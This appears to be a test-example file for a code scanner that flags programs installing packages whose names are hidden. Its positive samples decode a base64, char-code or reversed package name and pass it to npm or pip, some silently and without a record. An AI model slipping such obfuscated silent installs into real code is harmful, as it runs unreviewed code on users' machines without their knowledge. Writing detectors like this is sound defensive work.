import type { Examples } from "@doorward/core";

/** Programs that install a hidden package, and programs that install or decode honestly. */
export const examples: Examples = {
  hits: [
    {
      name: "a name in base64 that is installed without a record",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { execSync } = require("child_process");\n\nconst name = Buffer.from("cHJldHR5LWxvZ2dlci1jb3Jl", "base64").toString();\nexecSync(`npm install ${name} --no-save --loglevel silent`, { stdio: "ignore" });\nrequire(name);\n',
      },
    },
    {
      name: "a name put together from character codes",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { exec } = require("child_process");\n\nexec("npm i " + String.fromCharCode(108, 111, 103, 103, 101, 114, 45, 120));\n',
      },
    },
    {
      name: "a program of Python that installs a reversed name",
      files: { "main.py": 'import os\n\nos.system("pip install " + "x-reggol"[::-1])\n' },
    },
  ],
  misses: [
    {
      name: "a generator that installs packages with plain names",
      why: "The names can be read.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'require("child_process").execSync("npm install react react-dom", { stdio: "inherit" });\n',
      },
    },
    {
      name: "a program that decodes a picture and installs a plain package",
      why: "What is decoded is not what is installed.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const dot = Buffer.from("iVBORw0KGgo=", "base64");\nrequire("child_process").execSync("npm install sharp");\nconsole.log(dot.length);\n',
      },
    },
    {
      name: "a program that decodes a package name and prints it",
      why: "Nothing is installed.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'console.log(Buffer.from("cHJldHR5LWxvZ2dlci1jb3Jl", "base64").toString());\n',
      },
    },
  ],
  evasions: [
    {
      name: "a plain name, installed quietly",
      caughtBy: "code/package-installed-quietly",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'require("child_process").execSync("npm install pretty-logger-core --no-save --silent", { stdio: "ignore" });\n',
      },
    },
  ],
};
